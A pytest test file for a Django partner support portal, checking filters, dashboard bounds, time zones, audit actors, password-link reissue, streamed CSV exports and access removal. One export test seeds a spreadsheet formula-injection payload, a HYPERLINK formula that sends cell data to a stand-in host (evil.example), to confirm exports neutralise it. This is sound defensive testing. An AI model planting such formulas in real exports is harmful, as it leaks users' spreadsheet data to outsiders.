"""What a support agent's test of the portal found (issue 12), each kept
fixed: the operator's partner column and filter on runs and push items, the
dashboard's range bounds, failing days counted the same in every viewer's
zone, exports a spreadsheet cannot run, and a support user's bulk retry
audited as them."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth.models import Permission
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone

from commerce_sync.core.models import AuditLog, PushItem, SyncRun
from commerce_sync.core.services.demo import demo_seed
from commerce_sync.syncs.runs import sync_run_execute
from portal.models import PartnerMembership
from portal.selectors import failing_merchant_ids
from tests.factories import MerchantFactory, SyncConfigurationVersionFactory, SyncRunFactory
from tests.portal.conftest import build_world

ROW = re.compile(r'<tr>\s*<td class="action-checkbox">.*?</tr>', re.S)


def _rows(page: str) -> list[str]:
    return ROW.findall(page)


@pytest.fixture
def lone_agent(db, django_user_model):
    """A support user of a partner with one configured merchant, no history
    (cheaper than `worlds` for the tests that only need a page to answer)."""
    merchant = MerchantFactory(configured=True)
    SyncConfigurationVersionFactory(merchant=merchant, version=1)
    user = django_user_model.objects.create_user("lone", password="pw-lone-12345", is_staff=True)
    PartnerMembership.objects.create(user=user, partner=merchant.partner)
    user.merchant = merchant
    return user


@pytest.mark.parametrize("listing", ["/portal/core/syncrun/", "/portal/core/pushitem/"])
def test_operators_see_and_filter_the_partner_of_runs_and_items_in_constant_queries(
    listing, worlds, support_a, admin_client, client
):
    a, b = worlds
    with CaptureQueriesContext(connection) as two_partners:
        page = admin_client.get(listing).content.decode()
    rows = _rows(page)
    assert rows and all(
        (a.partner.name in row) != (b.partner.name in row) for row in rows
    )  # each row names its own partner
    assert "column-partner_name" in page and "merchant__partner__id__exact" in page

    build_world("Charlie", timezone.now())  # more partners, merchants, runs and items
    with CaptureQueriesContext(connection) as three_partners:
        more = admin_client.get(listing).content.decode()
    assert len(_rows(more)) > len(rows) and "Charlie Partner" in more
    choices = re.findall(r"merchant__partner__id__exact=\d+\">([^<]+)<", more)
    assert choices == ["Alpha Partner", "Bravo Partner", "Charlie Partner"]  # by name
    assert len(three_partners) == len(two_partners)  # no query per row or per partner

    only_b = admin_client.get(f"{listing}?merchant__partner__id__exact={b.partner.pk}")
    b_rows = _rows(only_b.content.decode())
    assert b_rows and all(b.partner.name in row for row in b_rows)

    client.force_login(support_a)  # a support user: neither the column nor the filter
    own = client.get(listing).content.decode()
    assert "column-partner_name" not in own and "merchant__partner" not in own


@pytest.mark.parametrize(
    ("query", "said"),
    [
        ("to=9999-12-31", "is in the future: showing up to today"),
        ("from=0001-01-01", "The dashboard shows at most 366 days"),
        ("to=0001-01-01", "The range is out of bounds"),
        ("failing_days=0", "Failing for &#x27;0&#x27; days is not 1 to 366"),
    ],
)
def test_the_dashboards_range_is_bounded_and_says_so(query, said, lone_agent, client):
    """Once a 500 (OverflowError) for to=9999-12-31, and a 5.6 MB page of
    739,000 bars for from=0001-01-01."""
    client.force_login(lone_agent)
    response = client.get(f"/portal/?{query}")
    assert response.status_code == 200
    page = response.content.decode()
    assert said in page
    assert page.count("<title>") - 1 <= 4 * 367  # a bar segment per status and day at most


def test_failing_days_are_utc_days_whatever_the_viewers_zone(db, django_user_model):
    """Two failures on two UTC days are one day in Kiritimati (UTC+14): the
    count of a merchant's failing days once followed the viewer's zone."""
    operator = django_user_model.objects.create_superuser("op", password="pw-op-12345")
    merchant = MerchantFactory(configured=True)
    for created in (datetime(2026, 11, 28, 11, tzinfo=UTC), datetime(2026, 11, 29, 9, tzinfo=UTC)):
        SyncRunFactory(merchant=merchant, status="failed", status_code=5130, created_at=created)
    end = datetime(2026, 11, 30, 12, tzinfo=UTC)
    for zone in ("UTC", "Pacific/Kiritimati", "Pacific/Pago_Pago"):
        with timezone.override(zone):
            ids = list(failing_merchant_ids(user=operator, end=end, days=2))
        assert ids == [merchant.pk], zone


def test_exports_are_text_to_a_spreadsheet_never_formulas(worlds, support_a, client):
    a, _b = worlds
    a.failing.name = '=HYPERLINK("https://evil.example/?"&A1,"Open")'
    a.failing.external_id = "+1-merchant"
    a.failing.save(update_fields=["name", "external_id"])
    PushItem.objects.filter(merchant=a.failing).update(last_error="@SUM(1+1)")
    client.force_login(support_a)
    merchants = client.post(
        "/portal/core/merchant/", {"action": "export_csv", "_selected_action": [str(a.failing.pk)]}
    )
    (row,) = list(csv.DictReader(io.StringIO(merchants.getvalue().decode())))
    assert row["name"] == "'" + a.failing.name and row["external_id"] == "'+1-merchant"
    assert row["enabled"] == "True"  # values that are not text are as they were
    items = client.post(
        "/portal/core/pushitem/",
        {
            "action": "export_csv",
            "_selected_action": [str(i.pk) for i in PushItem.objects.filter(merchant=a.failing)],
        },
    )
    errors = {row["last_error"] for row in csv.DictReader(io.StringIO(items.getvalue().decode()))}
    assert errors == {"'@SUM(1+1)"}


def test_a_support_users_bulk_retry_is_audited_as_them(db, settings, tmp_path, client):
    """The list's "Retry the failed push items" action once audited a
    support user as operator:<username>."""
    settings.LEDGER_DIR = str(tmp_path / "ledgers")
    seed = demo_seed(days=1, orders_per_day=3, today=date(2026, 11, 10))
    run = sync_run_execute(merchant=seed.merchant, now=datetime(2026, 11, 10, 9, tzinfo=UTC))
    Path(seed.ledger_path).write_text(
        Path(seed.ledger_path).read_text().split("\n2026-11-09 *")[0] + "\n"
    )
    PushItem.objects.filter(sync_run=run).update(status="failed", target_id="", last_error="x")
    SyncRun.objects.filter(pk=run.pk).update(status="failed", status_code=5130)
    from django.contrib.auth import get_user_model

    agent = get_user_model().objects.create_user("agent", password="pw-agent-123", is_staff=True)
    PartnerMembership.objects.create(user=agent, partner=seed.merchant.partner)
    agent.user_permissions.add(Permission.objects.get(codename="retry_syncrun"))
    client.force_login(agent)
    client.post(
        "/portal/core/syncrun/",
        {"action": "retry_failed_items", "_selected_action": [str(run.pk)]},
    )
    retry = AuditLog.objects.get(action="sync_run.retry_failed", object_id=str(run.pk))
    assert retry.actor == f"support:{seed.merchant.partner.slug}:agent"
    assert PushItem.objects.get(sync_run=run).status == "pushed"
    assert not AuditLog.objects.filter(actor__startswith="operator:").exists()
    assert timedelta(0) <= timezone.now() - retry.at < timedelta(minutes=5)


def test_health_next_due_last_success_and_payouts_are_in_the_agents_zone(worlds, support_a, client):
    """They were UTC (or Django's "Nov. 21, 2026, 4 a.m.") on pages that
    promise the agent's own zone."""
    a, _b = worlds
    PartnerMembership.objects.filter(user=support_a).update(time_zone="Asia/Tokyo")
    client.force_login(support_a)
    tokyo = ZoneInfo("Asia/Tokyo")
    since = (
        f"Failing since {a.failed_runs[0].created_at.astimezone(tokyo):%Y-%m-%d %H:%M} Asia/Tokyo"
    )
    listing = client.get("/portal/core/merchant/").content.decode()
    row = re.search(rf"{a.failing.name}.*?</tr>", listing, re.S).group(0)
    assert since in row and "due now (" in row and " UTC" not in row
    healthy = re.search(rf"{a.healthy.name}.*?</tr>", listing, re.S).group(0)
    # Next due "next at ..." before its sync hour, "due now (... to ...)" after.
    assert re.search(r"(?:next at |due now \()\d{4}-\d\d-\d\d \d\d:\d\d Asia/Tokyo", healthy)
    detail = client.get(reverse("portal:core_merchant_change", args=[a.failing.pk]))
    success = a.success_runs[0].period_end.astimezone(tokyo)
    assert f"{success:%Y-%m-%d %H:%M} Asia/Tokyo" in detail.content.decode()
    run = client.get(reverse("portal:core_syncrun_change", args=[a.failed_runs[-1].pk]))
    payout = re.search(r"Payout \S+ \(([^)]*)\)", run.content.decode()).group(1)
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d Asia/Tokyo", payout)


def test_a_partner_admin_reissues_a_set_password_link_for_their_own_users_only(
    worlds, admin_a, support_a, client, settings, django_user_model
):
    """The lockout page told a locked-out agent to ask their partner's admin
    for a new set-password link, which nobody could issue; a used link's page
    said to "request a new password reset", which the portal has no page for."""
    settings.SITE_URL = ""
    _a, b = worlds
    other = django_user_model.objects.create_user("agent-b", password="pw-b-1234567")
    b_member = PartnerMembership.objects.create(user=other, partner=b.partner)
    own = PartnerMembership.objects.get(user=support_a)

    client.force_login(support_a)  # a support agent (not an admin) cannot
    assert client.post(reverse("portal:invite"), {"reissue": own.pk}).status_code == 403
    client.force_login(admin_a)
    assert client.post(reverse("portal:invite"), {"reissue": b_member.pk}).status_code == 404
    assert client.post(reverse("portal:invite"), {"reissue": "x"}).status_code == 404
    page = client.post(reverse("portal:invite"), {"reissue": own.pk}, follow=True)
    text = page.content.decode()
    path = re.search(r"http://testserver(/portal/set-password/[^/]+/[^/]+/)", text).group(1)
    assert "agent-a" in text and "Bravo" not in text
    audit = AuditLog.objects.get(action="support_user.link_reissue")
    assert audit.actor == "support:alpha-partner:admin-a" and audit.changes["username"] == "agent-a"

    client.logout()
    form = client.get(path, follow=True)
    assert b"new_password1" in form.content
    assert b"permission to view or edit" not in form.content  # no empty admin sidebar
    done = client.post(
        form.redirect_chain[-1][0],
        {"new_password1": "a-new-long-phrase-7", "new_password2": "a-new-long-phrase-7"},
        follow=True,
    )
    assert b"Your password is set" in done.content
    support_a.refresh_from_db()
    assert support_a.check_password("a-new-long-phrase-7")
    dead = client.get(path, follow=True).content.decode()
    assert 'id="link-dead"' in dead and "portal admin for a new one" in dead
    assert "request a new password reset" not in dead


def test_exporting_every_row_streams_them_in_chunks(worlds, support_a, client):
    """ "Select all" then export once built the whole CSV in memory: with
    5,000,000 push items, one support user's click could exhaust the server."""
    client.force_login(support_a)
    response = client.post(
        "/portal/core/pushitem/",
        {"action": "export_csv", "select_across": "1", "index": "0", "_selected_action": "x"},
    )
    assert response.status_code == 200 and response.streaming
    with CaptureQueriesContext(connection) as read:
        lines = b"".join(response.streaming_content).decode().splitlines()
    (rows_read,) = read.captured_queries  # while streaming, through a server-side cursor
    assert rows_read["sql"].startswith("DECLARE") and 'FROM "core_pushitem"' in rows_read["sql"]
    assert len(lines) == 1 + PushItem.objects.filter(merchant__partner=worlds[0].partner).count()
    assert "Bravo" not in "".join(lines) and "bravo-" not in "".join(lines)


def test_a_runs_page_says_when_it_lists_only_the_first_items(
    worlds, support_a, client, monkeypatch
):
    """It cut the list at 200 items without a word: an agent took 200 for all."""
    monkeypatch.setattr("portal.views.ITEMS_SHOWN", 1)
    run = worlds[0].success_runs[-1]  # two items: one pushed, one failed
    client.force_login(support_a)
    url = reverse("portal:core_syncrun_change", args=[run.pk])
    page = client.get(url).content.decode()
    assert page.count('<tr class="item-') == 1
    more = re.search(r'<p id="items-more">The first 1 of 2 are shown: <a href="([^"]+)"', page)
    assert more is not None
    listing = client.get(more.group(1).replace("&amp;", "&")).content.decode()
    assert listing.count('name="_selected_action"') == 2
    assert 'id="items-more"' not in client.get(f"{url}?items=failed").content.decode()


def test_the_configuration_a_run_used_is_the_one_in_force_when_it_started(
    worlds, support_a, client
):
    """A run queued before a new version was saved, and started after, used
    the new one (the engine reads it at the start); the page named the old."""
    a, _b = worlds
    run = a.failed_runs[-1]
    SyncConfigurationVersionFactory(
        merchant=a.failing, version=3, created_at=run.created_at + timedelta(seconds=5)
    )
    SyncRun.objects.filter(pk=run.pk).update(started_at=run.created_at + timedelta(seconds=10))
    client.force_login(support_a)
    page = client.get(reverse("portal:core_syncrun_change", args=[run.pk])).content.decode()
    used = re.search(r"<th>Configuration used</th><td>(v\d+)", page)
    assert used is not None and used.group(1) == "v3"
    SyncRun.objects.filter(pk=run.pk).update(started_at=run.created_at + timedelta(seconds=1))
    page = client.get(reverse("portal:core_syncrun_change", args=[run.pk])).content.decode()
    assert re.search(r"<th>Configuration used</th><td>(v\d+)", page).group(1) == "v2"


def test_a_partner_admin_sets_the_alerts_their_support_team_gets(
    worlds, admin_a, support_a, client, admin_client
):
    """Who is alerted, and after how many failing days, was only an
    operator's to see and set: a partner's own admin could do neither."""
    a, b = worlds
    url = reverse("portal:alert_settings")
    client.force_login(support_a)  # reads, cannot change
    page = client.get(url).content.decode()
    assert 'id="alerts-read-only"' in page and "disabled" in page
    refused = client.post(url, {"alert_emails": "x@example.com", "alert_after_failing_days": 2})
    assert refused.status_code == 403
    client.force_login(admin_a)
    bad = client.post(
        url, {"alert_emails": "ok@example.com\nnot-an-address", "alert_after_failing_days": 40}
    )
    assert "not-an-address is not an email address" in bad.content.decode()
    assert "less than or equal to 31" in bad.content.decode()
    saved = client.post(
        url,
        {"alert_emails": "desk@alpha.example, lead@alpha.example", "alert_after_failing_days": 3},
        follow=True,
    )
    assert "Alert settings saved" in saved.content.decode()
    a.partner.refresh_from_db()
    b.partner.refresh_from_db()
    assert a.partner.alert_emails == ["desk@alpha.example", "lead@alpha.example"]
    assert a.partner.alert_after_failing_days == 3
    assert b.partner.alert_emails == [] and b.partner.alert_after_failing_days == 1
    audit = AuditLog.objects.get(action="partner.alerts")
    assert audit.actor == "support:alpha-partner:admin-a" and audit.changes["to"]["after"] == 3
    assert 'id="alert-settings"' in client.get("/portal/").content.decode()
    assert admin_client.get(url).status_code == 403  # operators: the admin's Partners page


def test_a_partner_admin_removes_the_access_of_an_agent_who_left(
    worlds, admin_a, support_a, client, django_user_model
):
    """An agent who left kept the portal (their partner's merchants) until an
    operator noticed: a partner admin had no way to take it away."""
    _a, b = worlds
    other = django_user_model.objects.create_user("agent-b", password="pw-b-1234567")
    b_member = PartnerMembership.objects.create(user=other, partner=b.partner)
    gone, own = (PartnerMembership.objects.get(user=u) for u in (support_a, admin_a))
    agent = client.__class__()
    agent.force_login(support_a)
    assert agent.get("/portal/").status_code == 200

    client.force_login(admin_a)
    url = reverse("portal:invite")
    assert client.post(url, {"deactivate": b_member.pk}).status_code == 404
    mine = client.post(url, {"deactivate": own.pk}, follow=True).content.decode()
    assert "cannot take away your own access" in mine
    done = client.post(url, {"deactivate": gone.pk}, follow=True).content.decode()
    assert "agent-a can no longer sign in" in done and "No access (removed)" in done
    other.refresh_from_db()
    support_a.refresh_from_db()
    admin_a.refresh_from_db()
    assert not support_a.is_active and admin_a.is_active and other.is_active
    assert agent.get("/portal/").status_code == 302  # their open session ends at once
    audit = AuditLog.objects.get(action="support_user.deactivate")
    assert audit.actor == "support:alpha-partner:admin-a" and audit.changes["username"] == "agent-a"
    again = client.post(url, {"deactivate": gone.pk}, follow=True).content.decode()
    assert "Access removed already: agent-a cannot sign in" in again  # a double post
    assert AuditLog.objects.filter(action="support_user.deactivate").count() == 1
    no_link = client.post(url, {"reissue": gone.pk}, follow=True).content.decode()
    assert "has no access: no link for them" in no_link and "set-password/" not in no_link


@pytest.mark.parametrize(
    "path",
    [
        "/portal/?failing_days=%C2%B2",
        "/portal/core/merchant/?failing_days=%C2%B2",
        "/portal/core/merchant/{pk}/configuration.json?version=%C2%B2",
        "/portal/core/merchant/{pk}/configuration-diff/?a=%C2%B2&b=1",
    ],
)
def test_a_superscript_digit_is_refused_in_words_not_a_500(path, lone_agent, client):
    """ "²" passes str.isdigit() and then breaks int(): four 500s."""
    client.force_login(lone_agent)
    response = client.get(path.format(pk=lone_agent.merchant.pk), follow=True)
    assert response.status_code in (200, 400)
    assert any(
        words in response.content.decode()
        for words in ("is not 1 to 366", "must be a number of days", "whole number", "Choose two")
    )


def test_a_refusal_says_why_and_what_to_do(worlds, support_a, client, django_user_model):
    """The portal's refusals carry their reason and remedy; the 403 page
    showed only "403 Forbidden"."""
    client.force_login(support_a)
    support_a.user_permissions.clear()
    refused = client.post(
        reverse("portal:core_syncrun_change", args=[worlds[0].failed_runs[0].pk]),
        {"action": "retry"},
    )
    page = refused.content.decode()
    assert refused.status_code == 403
    assert "which your account lacks; an operator grants it" in page
    assert 'href="/portal/"' in page
    assert (
        "Only a partner&#x27;s admins invite"
        in client.get(reverse("portal:invite")).content.decode()
    )
